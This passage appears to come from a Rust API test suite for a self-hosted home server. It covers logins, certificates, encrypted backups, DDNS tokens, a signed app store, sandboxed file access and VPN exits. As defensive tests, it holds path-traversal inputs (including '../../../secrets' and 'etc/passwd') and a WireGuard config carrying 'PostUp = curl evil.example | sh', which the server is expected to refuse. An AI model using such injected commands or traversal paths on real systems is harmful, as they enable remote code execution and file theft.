    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let reply = api.call(&admin, Method::GET, "/health", None).await;
    assert_eq!(reply.status, StatusCode::OK);
}

/// The built web UI is served for every path outside the API (a single-page app's routes get
/// index.html); an unknown API route stays a JSON 404.
#[tokio::test]
async fn the_web_ui_is_served_outside_the_api() {
    let mut api = Api::new();
    let dist = api._dir.path().join("dist");
    std::fs::create_dir_all(dist.join("assets")).unwrap();
    std::fs::write(dist.join("index.html"), "<!doctype html><title>PIC</title>").unwrap();
    std::fs::write(dist.join("assets/app.js"), "export {};").unwrap();
    api.app.webui = Some(dist);
    for uri in ["/", "/peers", "/generations"] {
        assert!(api.call_text(&Client::default(), uri).await.contains("<title>PIC</title>"), "{uri}");
    }
    assert_eq!(api.call_text(&Client::default(), "/assets/app.js").await, "export {};");
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let reply = api.call(&admin, Method::GET, "/api/no-such-thing", None).await;
    assert_eq!(reply.status, StatusCode::NOT_FOUND);
    assert_eq!(reply.body["error"]["code"], "not_found");
}

/// Every parameter the OpenAPI document puts in a path is in that path's template (query
/// parameters declared as path ones make typed clients demand them).
#[test]
fn openapi_path_parameters_are_in_their_paths() {
    let doc = serde_json::to_value(super::openapi()).unwrap();
    for (path, methods) in doc["paths"].as_object().unwrap() {
        for (method, operation) in methods.as_object().unwrap() {
            for parameter in operation["parameters"].as_array().into_iter().flatten() {
                if parameter["in"] == "path" {
                    let name = parameter["name"].as_str().unwrap();
                    assert!(path.contains(&format!("{{{name}}}")), "{method} {path}: path parameter {name}");
                }
            }
        }
    }
}

/// Passwords over the API: an admin sets one (the old one stops working), a weak one is refused
/// with the reason, an unknown user is 404; the CA certificate and the issued certificates, and
/// a revocation that reissues at once.
#[tokio::test]
async fn passwords_and_certificates() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let users = api.call(&admin, Method::GET, "/api/users", None).await;
    assert_eq!(users.body[0]["name"], "admin");
    assert_eq!(users.body[0]["password_set"], true);

    let weak = api.call(&admin, Method::POST, "/api/users/admin/password", Some(json!({"password": "x"}))).await;
    assert_eq!(weak.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", weak.body);
    let nobody = api
        .call(&admin, Method::POST, "/api/users/nobody/password", Some(json!({"password": "long-enough-pw-1"})))
        .await;
    assert_eq!(nobody.status, StatusCode::NOT_FOUND, "{}", nobody.body);
    let set = api
        .call(&admin, Method::POST, "/api/users/admin/password", Some(json!({"password": "a-new-admin-pw-2"})))
        .await;
    assert_eq!(set.status, StatusCode::OK, "{}", set.body);
    let old = api.try_login("admin", ADMIN_PASSWORD).await;
    assert_eq!(old.status, StatusCode::UNAUTHORIZED);
    let admin = api.login("admin", "a-new-admin-pw-2").await;

    assert!(api.call_text(&admin, "/api/ca.crt").await.starts_with("-----BEGIN CERTIFICATE-----"));
    let certs = api.call(&admin, Method::GET, "/api/certs", None).await;
    let first = certs.body[0].clone();
    let serial = first["serial"].as_str().unwrap();
    let revoked = api.call(&admin, Method::POST, &format!("/api/certs/{serial}/revoke"), None).await;
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.body);
    let certs = api.call(&admin, Method::GET, "/api/certs", None).await;
    let same_name: Vec<&Value> = certs.body.as_array().unwrap().iter().filter(|c| c["name"] == first["name"]).collect();
    assert_eq!(same_name.len(), 2, "the revoked one and its replacement");
    assert!(same_name.iter().any(|c| c["revoked"].is_string()) && same_name.iter().any(|c| c["revoked"].is_null()));
    let unknown = api.call(&admin, Method::POST, "/api/certs/00ff/revoke", None).await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}

impl Api {
    /// A request with a raw body (or none), answered with status, headers and raw bytes.
    async fn call_bytes(
        &self,
        client: &Client,
        method: Method,
        uri: &str,
        body: Vec<u8>,
    ) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
        let request = Request::builder()
            .method(method)
            .uri(uri)
            .header(
                header::COOKIE,
                format!(
                    "pic_session={}; csrf_token={}",
                    client.session.as_ref().unwrap(),
                    client.csrf.as_ref().unwrap()
                ),
            )
            .header("x-csrf-token", client.csrf.as_ref().unwrap())
            .header(header::CONTENT_TYPE, "application/octet-stream")
            .body(Body::from(body))
            .unwrap();
        let response = router(self.app.clone()).oneshot(request).await.unwrap();
        let (status, headers) = (response.status(), response.headers().clone());
        (status, headers, response.into_body().collect().await.unwrap().to_bytes().to_vec())
    }

    fn current(&self) -> Option<u64> {
        self.app.state.current().unwrap()
    }
}

#[tokio::test]
async fn backups_are_made_downloaded_uploaded_and_restored() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let mut events = api.app.events.subscribe();
    let passphrase = "backup-passphrase-1";

    let short = api.call(&admin, Method::POST, "/api/backups", Some(json!({"passphrase": "short"}))).await;
    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", short.body);
    assert!(short.body["error"]["message"].as_str().unwrap().contains("at least 8"));
    let made = api.call(&admin, Method::POST, "/api/backups", Some(json!({"passphrase": passphrase}))).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
    let id = made.body["id"].as_str().unwrap().to_owned();
    assert_eq!(made.body["header"]["secrets"], "encrypted");
    let mut progress = Vec::new();
    while let Ok(event) = events.try_recv() {
        if event["step"] == "progress" {
            progress.push(event);
        }
    }
    assert!(progress.iter().any(|e| e["operation"] == "backup" && e["done_bytes"] == e["total_bytes"]), "{progress:?}");

    let listed = api.call(&admin, Method::GET, "/api/backups", None).await;
    assert_eq!(listed.body.as_array().unwrap().len(), 1, "{}", listed.body);
    let (status, headers, archive) =
        api.call_bytes(&admin, Method::GET, &format!("/api/backups/{id}"), Vec::new()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers[header::CONTENT_DISPOSITION].to_str().unwrap().contains(&id));
    assert_eq!(archive.len() as u64, made.body["size"].as_u64().unwrap());

    // The cell moves on to generation 2.
    let created = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop"}))).await;
    assert_eq!(created.status, StatusCode::CREATED);
    assert_eq!(api.current(), Some(2));

    // An upload is checked before it is filed; a damaged one is refused, naming the member.
    let mut flipped = archive.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 1;
    let (status, _, body) = api.call_bytes(&admin, Method::POST, "/api/backups/upload", flipped).await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["code"], "backup_refused");
    assert!(body["error"]["message"].as_str().unwrap().contains("member \""), "{body}");
    let (status, _, body) = api.call_bytes(&admin, Method::POST, "/api/backups/upload", archive.clone()).await;
    let uploaded: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, StatusCode::CREATED, "{uploaded}");
    let uploaded_id = uploaded["id"].as_str().unwrap().to_owned();
    assert_ne!(uploaded_id, id);
    let listed = api.call(&admin, Method::GET, "/api/backups", None).await;
    assert_eq!(listed.body.as_array().unwrap().len(), 2, "the refused upload was filed: {}", listed.body);

    let restore = |body: Value| {
        let uri = format!("/api/backups/{uploaded_id}/restore");
        let api = &api;
        let admin = &admin;
        async move { api.call(admin, Method::POST, &uri, Some(body)).await }
    };
    let wrong = restore(json!({"passphrase": "not-the-passphrase"})).await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", wrong.body);
    assert!(wrong.body["error"]["message"].as_str().unwrap().contains("passphrase"));
    let dry = restore(json!({"passphrase": passphrase, "dry_run": true})).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    assert_eq!((dry.body["dry_run"].as_bool(), dry.body["new_generation"].as_u64()), (Some(true), Some(3)));
    assert_eq!(api.current(), Some(2), "a dry run or a refusal switched");

    let done = restore(json!({"passphrase": passphrase})).await;
    assert_eq!(done.status, StatusCode::OK, "{}", done.body);
    assert_eq!(done.body["previous_generation"], 2);
    assert_eq!(api.current(), Some(3));
    let state = &api.app.state;
    assert_eq!(state.generation_config(3).unwrap(), state.generation_config(1).unwrap());
    let rolled = api.call(&admin, Method::POST, "/api/rollback", None).await;
    assert_eq!((rolled.status, api.current()), (StatusCode::OK, Some(2)));

    for missing in ["nope.tar.zst", "..%2Fstate.tar.zst"] {
        let reply = api.call(&admin, Method::POST, &format!("/api/backups/{missing}/restore"), Some(json!({}))).await;
        assert_eq!(reply.status, StatusCode::NOT_FOUND, "{missing}: {}", reply.body);
    }
}

#[tokio::test]
async fn a_scheduled_backup_missed_while_off_is_made_at_start_with_the_secrets_sealed() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let before = api.call(&admin, Method::GET, "/api/backups/schedule", None).await;
    assert_eq!(before.status, StatusCode::OK, "{}", before.body);
    assert_eq!((before.body["next_run"].clone(), before.body["key"].clone()), (Value::Null, json!(false)));

    let short = api.call(&admin, Method::PUT, "/api/backups/key", Some(json!({"passphrase": "short"}))).await;
    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", short.body);
    let passphrase = "a long backup passphrase";
    let key = api.call(&admin, Method::PUT, "/api/backups/key", Some(json!({"passphrase": passphrase}))).await;
    assert_eq!(key.status, StatusCode::OK, "{}", key.body);
    assert!(key.body["recipient"].as_str().unwrap().starts_with("age1"), "{}", key.body);

    // A daily schedule whose last run is two days old: the device was off when it came due.
    let state = api.app.state.clone();
    tokio::task::spawn_blocking(move || {
        let writer = state.writer().unwrap();
        let config = writer
            .desired_with(|c| {
                c.backups.schedule = Some(pic_builder::config::BackupSchedule {
                    every: pic_builder::config::Every::Day,
                    at: "00:00".into(),
                    on: None,
                });
                Ok(())
            })
            .unwrap();
        writer.build_and_switch(&config, "test").unwrap();
        let two_days_ago = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(48);
        let status = pic_builder::backup::schedule::ScheduleStatus {
            since: Some(two_days_ago),
            last_success: Some(two_days_ago),
            ..Default::default()
        };
        std::fs::write(state.root().join("backups/schedule.json"), serde_json::to_vec(&status).unwrap()).unwrap();
    })
    .await
    .unwrap();
    let view = api.call(&admin, Method::GET, "/api/backups/schedule", None).await;
    assert!(view.body["next_run"].is_string() && view.body["key"] == json!(true), "{}", view.body);

    let mut events = api.app.events.subscribe();
    let looping = tokio::spawn(super::backups::run_schedule(api.app.clone()));
    // The loop looks at once when it starts; the archive of this small cell takes seconds.
    let limit = std::time::Duration::from_secs(60);
    let done = tokio::time::timeout(limit, async {
        let mut seen = Vec::new();
        loop {
            let event = events.recv().await.unwrap();
            if event["step"] == "scheduled_backup" && event["state"] != "started" {
                return (event, seen);
            }
            seen.push(event["step"].clone());
        }
    })
    .await
    .unwrap_or_else(|_| panic!("no scheduled backup within {limit:?}"));
    looping.abort();
    let (event, _) = done;
    assert_eq!((event["state"].clone(), event["secrets_included"].clone()), (json!("done"), json!(true)), "{event}");
    let listed = api.call(&admin, Method::GET, "/api/backups", None).await;
    let archive = &listed.body[0];
    assert_eq!(archive["id"], event["archive"]);
    assert_eq!(archive["header"]["scheduled"], true);
    assert_eq!(archive["header"]["secrets"], "encrypted_to_key");
    let view = api.call(&admin, Method::GET, "/api/backups/schedule", None).await;
    assert_eq!(view.body["status"]["last_archive"], event["archive"], "{}", view.body);
    assert_eq!(view.body["status"]["problem"], Value::Null);

    // Restored with the passphrase alone (a dry run: every member checked, the secrets opened).
    let uri = format!("/api/backups/{}/restore", event["archive"].as_str().unwrap());
    let dry = api.call(&admin, Method::POST, &uri, Some(json!({"passphrase": passphrase, "dry_run": true}))).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    assert_eq!(dry.body["secrets"], "restored");
    let wrong =
        api.call(&admin, Method::POST, &uri, Some(json!({"passphrase": "not the passphrase", "dry_run": true}))).await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", wrong.body);
}

/// A status as the watcher publishes it: the engine up with everything started, or still away.
fn device_status(ready: bool) -> crate::device::Status {
    use crate::device::{Engine, Observed, Progress, Status};
    let engine = match ready {
        true => Engine::Up {
            images: Progress { done: 8, total: 8 },
            missing: Vec::new(),
            services: Progress { done: 1, total: 1 },
            activated: true,
        },
        false => Engine::Waiting("Docker is starting".into()),
    };
    let storage = crate::device::storage::Storage { data_bytes: 8 << 30, free_bytes: 7 << 30, disk_bytes: None };
    Status::from(&Observed {
        storage: Some(storage),
        problem: None,
        blocked: false,
        engine: Some(engine),
        setup_complete: false,
        ca_fingerprint: None,
        addresses: vec![std::net::Ipv4Addr::new(192, 0, 2, 7)],
        uptime: std::time::Duration::from_secs(20),
    })
}

#[tokio::test]
async fn the_front_door_shows_the_progress_page_until_the_device_is_ready() {
    let api = Api::new();
    let get = |path: &str| {
        let front = super::front_door_router(api.app.clone());
        let request = Request::get(path).body(Body::empty()).unwrap();
        async move {
            let response = front.oneshot(request).await.unwrap();
            let status = response.status();
            let headers = response.headers().clone();
            let body = response.into_body().collect().await.unwrap().to_bytes();
            (status, headers, String::from_utf8_lossy(&body).into_owned())
        }
    };
    api.app.device.publish(device_status(false));
    for path in ["/", "/peers", "/index.html"] {
        let (status, headers, page) = get(path).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{path}: {page}");
        assert_eq!(headers[header::RETRY_AFTER], "2");
        assert!(page.contains("<title>PIC is starting</title>") && page.contains("waiting for Docker"), "{page}");
    }
    // The API and the health check answer as always; the status carries the steps.
    let (status, _, body) = get("/api/setup/status").await;
    assert_eq!(status, StatusCode::OK);
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["device"]["phase"], "starting", "{body}");
    assert_eq!(body["device"]["steps"][1]["id"], "images", "{body}");
    assert_eq!(get("/health").await.0, StatusCode::OK);
    // Ready once: the web UI from then on (none is built here, hence 404), also while a later
    // activation is under way; the API's own listener never shows the page.
    api.app.device.publish(device_status(true));
    assert_eq!(get("/").await.0, StatusCode::NOT_FOUND);
    api.app.device.publish(device_status(false));
    assert_eq!(get("/").await.0, StatusCode::NOT_FOUND);
    let plain = router(api.app.clone()).oneshot(Request::get("/").body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(plain.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_blocked_device_says_why_and_refuses_setup() {
    let api = Api::new();
    let small = crate::device::storage::Storage {
        data_bytes: 700_000_000,
        free_bytes: 9_000_000,
        disk_bytes: Some(911_000_000),
    };
    let problem = crate::device::storage::judge(&small, &crate::device::storage::LIMITS);
    api.app.device.block(true);
    api.app.device.publish(crate::device::Status::from(&crate::device::Observed {
        storage: Some(small),
        problem,
        blocked: true,
        engine: None,
        setup_complete: false,
        ca_fingerprint: None,
        addresses: Vec::new(),
        uptime: std::time::Duration::from_secs(40),
    }));
    let front = super::front_door_router(api.app.clone());
    let response = front.oneshot(Request::get("/").body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    let page = response.into_body().collect().await.unwrap().to_bytes();
    let page = String::from_utf8_lossy(&page);
    assert!(page.contains("PIC cannot start") && page.contains("The disk is 911 MB"), "{page}");
    let setup = json!({"cell_name": "home", "admin_password": ADMIN_PASSWORD, "services": ["dns"]});
    let reply = api.call(&Client::default(), Method::POST, "/api/setup", Some(setup)).await;
    assert_eq!(reply.status, StatusCode::SERVICE_UNAVAILABLE, "{}", reply.body);
    assert_eq!(reply.body["error"]["code"], "device_blocked");
    assert!(!api.app.state.desired_config_path().exists(), "a blocked setup wrote the config");
}

#[tokio::test]
async fn the_domain_and_its_ddns_credential() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let reply = api.call(&admin, Method::GET, "/api/domain", None).await;
    assert_eq!((&reply.body["mode"], &reply.body["name"]), (&json!("local"), &json!("home.cell")));
    // Local mode: the cell CA's certificates, one per name (the web UI's among them).
    let certificates = reply.body["certificates"].as_array().unwrap();
    assert!(
        certificates
            .iter()
            .any(|c| c["names"] == json!(["home.cell", "pic.home.cell"]) && c["issuer"] == "the cell CA"),
        "{certificates:?}"
    );
    // No credential outside ddns mode.
    let reply = api.call(&admin, Method::PUT, "/api/domain/credential", Some(json!({"credential": "x"}))).await;
    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);

    // Into ddns mode with DuckDNS.
    api.set_domain(json!({"mode": "ddns", "provider": "duckdns", "name": "mycell.duckdns.org",
        "acme_email": "owner@example.org"}))
        .await;
    let reply = api.call(&admin, Method::GET, "/api/domain", None).await;
    assert_eq!(
        (&reply.body["provider"], &reply.body["credential_set"]),
        (&json!("duckdns"), &json!(false)),
        "{}",
        reply.body
    );
    assert_eq!(reply.body["ddns"]["updates"], 0);

    let bad = api.call(&admin, Method::PUT, "/api/domain/credential", Some(json!({"credential": "not-a-token"}))).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.body);
    assert_eq!(bad.body["error"]["details"][0]["path"], "credential", "{}", bad.body);
    assert!(api.app.state.secrets().ddns_credential(pic_builder::config::DdnsProvider::Duckdns).unwrap().is_none());
    let token = "a7c4d0ad-114e-40ef-ba1d-d217904a50f2";
    let good = api.call(&admin, Method::PUT, "/api/domain/credential", Some(json!({"credential": token}))).await;
    assert_eq!(good.status, StatusCode::OK, "{}", good.body);
    let reply = api.call(&admin, Method::GET, "/api/domain", None).await;
    assert_eq!(reply.body["credential_set"], true);
    // The token is in secrets/ only: not in the config, a generation or the store.
    let found = std::process::Command::new("grep").args(["-rl", token]).arg(api.app.state.root()).output().unwrap();
    let found = String::from_utf8_lossy(&found.stdout);
    assert!(found.lines().all(|f| f.contains("/secrets/ddns/")), "the token is outside secrets/: {found}");
    // A peer may not see or change it.
    api.add_peer_user().await;
    let peer = api.login("bob", PEER_PASSWORD).await;
    assert_eq!(api.call(&peer, Method::GET, "/api/domain", None).await.status, StatusCode::FORBIDDEN);
}

#[test]
fn every_operation_has_its_own_id() {
    let doc = serde_json::to_value(super::openapi()).unwrap();
    let mut seen = std::collections::BTreeMap::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            let id = operation["operationId"].as_str().unwrap_or_default().to_owned();
            if let Some(other) = seen.insert(id.clone(), format!("{method} {path}")) {
                panic!("{id} names both {other} and {method} {path}");
            }
        }
    }
}

#[tokio::test]
async fn in_public_mode_the_domain_lists_the_certificates_caddy_got() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    api.set_domain(json!({"mode": "public", "name": "cell.example.org", "acme_email": "owner@example.org"})).await;
    assert_eq!(api.call(&admin, Method::GET, "/api/domain", None).await.body["certificates"], json!([]));
    // Where Caddy keeps what the ACME CA issued (`storage file_system /srv/caddy` in the proxy).
    let mut params =
        rcgen::CertificateParams::new(vec!["pic.cell.example.org".into(), "cell.example.org".into()]).unwrap();
    params.not_after = rcgen::date_time_ymd(2027, 2, 28);
    params.distinguished_name.push(rcgen::DnType::CommonName, "pic.cell.example.org");
    let key = rcgen::KeyPair::generate().unwrap();
    let issuer_key = rcgen::KeyPair::generate().unwrap();
    let mut issuer_params = rcgen::CertificateParams::new(Vec::new()).unwrap();
    issuer_params.distinguished_name.push(rcgen::DnType::CommonName, "(STAGING) Pseudo Plum E5");
    issuer_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let issuer = rcgen::Issuer::new(issuer_params, issuer_key);
    let leaf = params.signed_by(&key, &issuer).unwrap();
    let dir = api
        .app
        .state
        .root()
        .join("data/proxy/caddy/certificates/acme-staging-v02.api.letsencrypt.org-directory/pic.cell.example.org");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("pic.cell.example.org.crt"), leaf.pem()).unwrap();
    std::fs::write(dir.join("pic.cell.example.org.key"), key.serialize_pem()).unwrap();
    std::fs::write(dir.join("pic.cell.example.org.json"), "{}").unwrap();
    let reply = api.call(&admin, Method::GET, "/api/domain", None).await;
    assert_eq!(
        reply.body["certificates"],
        json!([{"names": ["cell.example.org", "pic.cell.example.org"], "issuer": "(STAGING) Pseudo Plum E5",
            "not_after": "2027-02-28T00:00:00Z"}]),
        "{}",
        reply.body
    );
}

/// The repository's index (`store/`) signed with a key made by Debian's minisign; returns its
/// folder and the public key.
fn signed_store(dir: &std::path::Path) -> (std::path::PathBuf, String) {
    let index = dir.join("index");
    let from = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../store");
    assert!(std::process::Command::new("cp").arg("-r").arg(&from).arg(&index).status().unwrap().success());
    let key = minisign::Key::new(dir, "k");
    key.sign_index(&index);
    (index, key.public)
}

#[tokio::test]
async fn the_store_lists_a_signed_index_serves_icons_sandboxed_and_checks_installs() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let no_index = api.call(&admin, Method::GET, "/api/store", None).await;
    assert_eq!(no_index.status, StatusCode::CONFLICT, "{}", no_index.body);

    let (index, key) = signed_store(api._dir.path());
    let state = api.app.state.clone();
    let source = index.to_str().unwrap().to_owned();
    tokio::task::spawn_blocking(move || {
        let writer = state.writer().unwrap();
        let config = writer
            .desired_with(|c| {
                c.store = pic_builder::config::Store { index: Some(source), trusted_keys: vec![key] };
                Ok(())
            })
            .unwrap();
        writer.build_and_switch(&config, "test").unwrap();
    })
    .await
    .unwrap();
    let store = api.call(&admin, Method::GET, "/api/store", None).await;
    assert_eq!(store.status, StatusCode::OK, "{}", store.body);
    let names: Vec<&str> = store.body["apps"].as_array().unwrap().iter().map(|a| a["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["dokuwiki", "syncthing", "transmission"]);
    assert_eq!(store.body["apps"][0]["installed"], Value::Null);
    assert_eq!(store.body["apps"][0]["settings"]["title"]["type"], "string");

    let icon = api.call_raw(&admin, Method::GET, "/api/store/dokuwiki/icon", None, &[]).await;
    assert_eq!(icon.status, StatusCode::OK);
    assert_eq!(icon.headers[header::CONTENT_TYPE], "image/svg+xml");
    assert!(icon.headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap().contains("sandbox"));
    let none = api.call(&admin, Method::GET, "/api/store/nothing/icon", None).await;
    assert_eq!(none.status, StatusCode::NOT_FOUND);

    // This server runs no containers: an install is refused before anything changes.
    let before = api.app.state.current().unwrap();
    let install = api.call(&admin, Method::POST, "/api/apps", Some(json!({"name": "dokuwiki"}))).await;
    assert_eq!(install.status, StatusCode::CONFLICT, "{}", install.body);
    let bad = api.call(&admin, Method::POST, "/api/apps", Some(json!({"name": "dokuwiki", "colour": 1}))).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.body);
    assert_eq!(api.app.state.current().unwrap(), before);

    let installed = api.call(&admin, Method::GET, "/api/apps", None).await;
    assert_eq!(installed.body["apps"], json!([]));
    let missing = api.call(&admin, Method::DELETE, "/api/apps/dokuwiki", None).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND, "{}", missing.body);

    // A tampered index is refused with the reason, naming the file.
    let manifest = index.join("dokuwiki/manifest.toml");
    let text = std::fs::read_to_string(&manifest).unwrap().replace("Our wiki", "Their wiki");
    std::fs::write(&manifest, text).unwrap();
    let refused = api.call(&admin, Method::GET, "/api/store", None).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", refused.body);
    assert!(refused.body["error"]["message"].as_str().unwrap().contains("dokuwiki/manifest.toml"), "{}", refused.body);
}

/// An installed app (examples/apps.json's) is listed with its settings, the secret ones only by
/// name; removing it with purge moves its data under backups/.
#[tokio::test]
async fn installed_apps_are_listed_and_removed_with_their_data_saved() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let state = api.app.state.clone();
    tokio::task::spawn_blocking(move || {
        let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/apps.json")).unwrap();
        let example: pic_builder::config::CellConfig = serde_json::from_str(&text).unwrap();
        let writer = state.writer().unwrap();
        let config = writer
            .desired_with(|c| {
                c.services.proxy.enabled = true;
                c.apps = example.apps;
                Ok(())
            })
            .unwrap();
        writer.build_and_switch(&config, "test").unwrap();
    })
    .await
    .unwrap();
    let listed = api.call(&admin, Method::GET, "/api/apps", None).await;
    let apps = listed.body["apps"].as_array().unwrap();
    assert_eq!(apps.len(), 2);
    assert_eq!(apps[0]["settings"]["title"], "Our family wiki");
    assert_eq!(apps[1]["settings"]["rpc_username"], "admin", "a default is shown");
    assert_eq!(apps[1]["secrets"], json!(["rpc_password"]));
    assert_eq!(apps[0]["url"], "https://wiki.home.cell/");

    let data = api.app.state.root().join("data/app-dokuwiki/wiki/pages");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("start.txt"), "kept").unwrap();
    let removed = api.call(&admin, Method::DELETE, "/api/apps/dokuwiki?purge=true", None).await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.body);
    let saved = std::path::PathBuf::from(removed.body["data_saved"].as_str().unwrap());
    assert_eq!(std::fs::read_to_string(saved.join("wiki/pages/start.txt")).unwrap(), "kept");
    assert!(!api.app.state.root().join("data/app-dokuwiki").exists());
    let listed = api.call(&admin, Method::GET, "/api/apps", None).await;
    assert_eq!(listed.body["apps"].as_array().unwrap().len(), 1);
}

/// The Files page's API over the user's own WebDAV folder: upload, list, download, folder, move,
/// delete; a path out of the folder or through a link is refused; a user without the files
/// service gets 403.
#[tokio::test]
async fn files_stay_in_the_users_own_folder() {
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let state = api.app.state.clone();
    tokio::task::spawn_blocking(move || {
        let writer = state.writer().unwrap();
        let config = writer
            .desired_with(|c| {
                c.services.files.enabled = true;
                c.services.files.users = vec!["admin".into()];
                Ok(())
            })
            .unwrap();
        writer.build_and_switch(&config, "files").unwrap();
    })
    .await
    .unwrap();
    let root = api.app.state.root().join("data/files/users/admin");
    std::fs::create_dir_all(&root).unwrap();
    std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
    let admin = api.login("admin", ADMIN_PASSWORD).await;

    let put = |path: &str, body: &str| {
        let uri = format!("/api/files/content?path={path}");
        let extra = [("content-type", "application/octet-stream")];
        let (admin, body) = (admin.clone(), body.to_owned());
        let api = &api;
        async move { api.call_raw(&admin, Method::PUT, &uri, Some(body), &extra).await }
    };
    assert_eq!(put("notes.txt", "hello files").await.status, StatusCode::CREATED);
    let made = api.call(&admin, Method::POST, "/api/files/folder", Some(json!({"path": "docs"}))).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
    let moved = api
        .call(&admin, Method::POST, "/api/files/move", Some(json!({"from": "notes.txt", "to": "docs/notes.txt"})))
        .await;
    assert_eq!(moved.status, StatusCode::OK, "{}", moved.body);
    let listed = api.call(&admin, Method::GET, "/api/files?path=docs", None).await;
    assert_eq!(listed.body["entries"][0]["name"], "notes.txt");
    assert_eq!(listed.body["entries"][0]["size"], 11);
    assert_eq!(api.call_text(&admin, "/api/files/content?path=docs/notes.txt").await, "hello files");
    let top = api.call(&admin, Method::GET, "/api/files", None).await;
    let names: Vec<&str> =
        top.body["entries"].as_array().unwrap().iter().map(|e| e["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["docs"], "the link is not listed");

    for (method, uri) in [
        (Method::GET, "/api/files?path=../../../secrets"),
        (Method::GET, "/api/files?path=etc"),
        (Method::GET, "/api/files/content?path=etc/passwd"),
        (Method::DELETE, "/api/files?path=.."),
    ] {
        let reply = api.call(&admin, method.clone(), uri, None).await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{method} {uri}: {}", reply.body);
    }
    assert_eq!(put("etc/evil", "x").await.status, StatusCode::BAD_REQUEST);
    assert!(!std::path::Path::new("/etc/evil").exists());

    let deleted = api.call(&admin, Method::DELETE, "/api/files?path=docs", None).await;
    assert_eq!(deleted.status, StatusCode::OK, "{}", deleted.body);
    assert!(!root.join("docs").exists());

    let bob = api.login("bob", PEER_PASSWORD).await;
    let refused = api.call(&bob, Method::GET, "/api/files", None).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.body);
}

/// A provider's wg-quick file, as `POST /api/exits` takes it.
const PROVIDER_FILE: &str = "[Interface]
PrivateKey = YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw=
Address = 10.64.12.34/32
DNS = 10.64.0.1

[Peer]
PublicKey = cHJvdmlkZXJwdWJsaWNrZXlwcm92aWRlcnB1YmxpY2s=
AllowedIPs = 0.0.0.0/0
Endpoint = 192.0.2.10:51820
";

#[tokio::test]
async fn exits_are_added_used_and_removed_with_their_keys_kept_apart() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;

    // A file that would run a command is refused at its line, and nothing changes.
    let evil = PROVIDER_FILE.replace("DNS = 10.64.0.1", "DNS = 10.64.0.1\nPostUp = curl evil.example | sh");
    let reply = api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "vpn", "wireguard": evil}))).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
    let details = reply.body["error"]["details"].to_string();
    assert!(details.contains("line 5: PostUp runs a command"), "{details}");
    assert_eq!(api.app.state.generations().unwrap().len(), 1, "nothing was built");
    let reply =
        api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "My VPN", "wireguard": PROVIDER_FILE}))).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
    assert!(!api.app.state.secrets().dir().join("exits").exists(), "no key kept for a refused exit");

